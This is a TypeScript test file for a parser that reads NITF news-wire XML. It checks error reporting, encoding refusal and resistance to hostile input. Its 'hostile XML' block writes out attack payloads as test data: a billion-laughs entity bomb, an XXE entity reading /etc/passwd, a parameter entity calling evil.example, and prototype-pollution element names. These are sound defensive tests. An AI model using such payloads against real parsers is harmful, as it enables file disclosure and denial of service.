import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { aNitf, codesIn, htmlOf, read } from '../fixtures/xml/wire-stories.ts';

describe('other XML', () => {
  it.each([
    ['<html xmlns="http://www.w3.org/1999/xhtml"/>', 'rename it to end in .html'],
    ['<NewsML/>', 'NewsML 1'],
    ['<rss/>', 'feed'],
    ['<packageItem xmlns="http://iptc.org/std/nar/2006-10-01/"/>', 'package'],
    ['<newsItem/>', 'xmlns="http://iptc.org/std/nar/2006-10-01/"'],
    ['<constructor/>', 'newsItem'],
    ['<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"/>', 'news item'],
  ])('%s is refused with what to do', (text, advice) => {
    const { problems } = read(text);
    expect(problems).toMatchObject([{ code: 'xml-shape', place: { line: 1, column: 1 } }]);
    expect(problems[0]?.advice).toContain(advice);
  });
});

describe('XML that is not well-formed', () => {
  it.each([
    ['<nitf>\n <p>one</nitf>', 2, 8, '</p>'],
    ['<nitf>\n <p>one', 2, 2, 'never closed'],
    ['<nitf>\n R&D </nitf>', 2, 3, '“&” stands alone'],
    ['<nitf>\n <a href="x?a=1&b=2;"/></nitf>', 2, 16, '“&” stands alone'],
    ['<nitf>\r\n a&nbsp;b</nitf>', 2, 3, '“&nbsp;” is not known'],
    ['<nitf>&constructor;</nitf>', 1, 7, '“&constructor;”'],
    ['<nitf>\n<![CDATA[ R&D </nitf>', 2, 1, '“<![CDATA[” is never closed'],
    ['<nitf>😀\u0001</nitf>', 1, 9, 'U+0001'],
    ['<nitf>\n <a b="<"/></nitf>', 2, 8, 'quotation mark'],
    ['<nitf>\n <x:p/></nitf>', 2, 2, '"x"'],
    ['<nitf/>\n<nitf/>', 2, 1, 'one root'],
    ['<\r\n', 1, 2, 'tag name'],
    ['', 1, 1, 'no element'],
  ])('%j is refused at line %i, column %i', (text, line, column, said) => {
    const { problems } = read(text);
    expect(problems).toMatchObject([{ code: 'xml', severity: 'error', place: { line, column } }]);
    expect(problems[0]?.message).toContain(said);
  });

  it('is told once, however much is wrong', () => {
    expect(codesIn('<'.repeat(10_000))).toEqual(['xml']);
  });
});

describe('an encoding other than UTF-8', () => {
  it('is refused where it is declared', () => {
    const text = '<?xml version="1.0"\n encoding="ISO-8859-1"?><nitf>é</nitf>';
    expect(read(text).problems).toMatchObject([
      { code: 'encoding', words: 'ISO-8859-1', place: { line: 2, column: 12 } },
    ]);
  });

  it('does no harm to a file in ASCII', () => {
    expect(read(`<?xml version="1.0" encoding="ISO-8859-1"?>${aNitf('<p>x</p>')}`).draft?.headline).toBe(
      'Tunnel opens',
    );
  });
});

describe('hostile XML', () => {
  const laughs = [
    '<!ENTITY a "ha">',
    ...'bcdefghi'.split('').map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`),
  ];

  it.each([
    ['a billion laughs', `<!DOCTYPE nitf [\n${laughs.join('\n')}\n]>\n<nitf>&i;</nitf>`],
    ['an external entity', '<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]><nitf>&x;</nitf>'],
    ['a parameter entity', '<!DOCTYPE nitf SYSTEM "a.dtd" [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><nitf/>'],
    ['an attribute list', '<!DOCTYPE nitf [<!ATTLIST p onclick CDATA "x()">]><nitf><p/></nitf>'],
  ])('with %s is refused at its DOCTYPE', (_name, text) => {
    expect(read(text).problems).toMatchObject([{ code: 'xml-dtd', place: { line: 1, column: 1 } }]);
  });

  it('that names its DTD loads nothing and knows none of its entities', () => {
    expect(codesIn(`<!DOCTYPE nitf SYSTEM "http://127.0.0.1:1/[x].dtd">${aNitf('<p>x</p>')}`)).toEqual([
      'section-assumed',
    ]);
    expect(codesIn(`<!DOCTYPE nitf SYSTEM "http://127.0.0.1:1/x.dtd">${aNitf('<p>&eacute;</p>')}`)).toEqual(['xml']);
  });

  it('of 100,000 levels is refused where it is too deep', () => {
    expect(read('<a>\n'.repeat(100_000)).problems).toMatchObject([
      { code: 'xml-too-deep', place: { line: 129, column: 1 } },
    ]);
  });

  it('of 128 levels is read', () => {
    const text = aNitf(`${'<em>'.repeat(125)}deep${'</em>'.repeat(125)}`);
    expect(htmlOf(text)).toBe('<p><em>deep</em></p>');
  });

  it('of a megabyte of attributes is answered', () => {
    let attributes = '';
    for (let index = 0; attributes.length < 1_000_000; index++) attributes += ` a${index}="${index}"`;
    expect(
      read(`<nitf><head/><body${attributes}><body.content><p>x</p></body.content></body></nitf>`).problems,
    ).toMatchObject([{ code: 'field-missing', field: 'headline' }, { code: 'section-assumed' }]);
  });

  it('with thousands of pictures is told of no more than some', () => {
    const media = '<media media-type="image"><media-reference source="a.jpg"/></media>';
    expect(codesIn(aNitf(`<p>x</p>${media.repeat(5_000)}`)).filter((code) => code === 'image-src')).toHaveLength(20);
  });

  it('with names that mean something to JavaScript is read as any other', () => {
    const text = aNitf('<__proto__ constructor="x" __proto__="y">a</__proto__><p toString="z">b</p>');
    expect(htmlOf(text)).toBe('<p>a</p>\n<p>b</p>');
  });
});

describe('any text', () => {
  const words = fc.constantFrom(
    ...[
      '<nitf>',
      '</nitf>',
      '<body>',
      '<body.content>',
      '<p>',
      '</p>',
      '<p/>',
      '<media media-type="image">',
      '<bq>',
      '<table>',
    ],
    ...[
      '<tr>',
      '<td>',
      '&amp;',
      '&x;',
      '&',
      '<',
      '>',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<!DOCTYPE nitf [',
      ']>',
      '\r\n',
      '\u2028',
    ],
    ...[
      '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/">',
      '<contentSet>',
      '<inlineXML>',
      '<inlineData>',
      '<html>',
      '<img/>',
    ],
    ...['<?xml version="1.1" encoding="UTF-8"?>', ' a="b"', ' xmlns:a="b"', '<a:b', '/>', 'text', 'نص', '😀'],
  );
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(words, { maxLength: 40 }).map((parts) => parts.join('')),
  );

  it('is answered, with places within the file', () => {
    fc.assert(
      fc.property(text, (written) => {
        const { draft, notice, problems } = read(written);
        expect(draft !== undefined || notice !== undefined || problems.length > 0).toBe(true);
        const lines = written.toWellFormed().split(/\r\n?|\n/);
        for (const { place } of problems) {
          expect(place.column).toBeGreaterThan(0);
          expect(place.column).toBeLessThanOrEqual((lines[place.line - 1]?.length ?? -1) + 1);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('in a body is words and nothing else', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (written) => {
        const escaped = written
          .replace(/[&<>]/g, (sign) => `&#${sign.charCodeAt(0)};`)
          .replace(/[^\t\n\r -\ud7ff\ue000-\ufffd]/g, '');
        expect(htmlOf(aNitf(`<p>${escaped}</p><p>end</p>`))).not.toMatch(/<(?!\/?p>|br>)/);
      }),
    );
  });
});
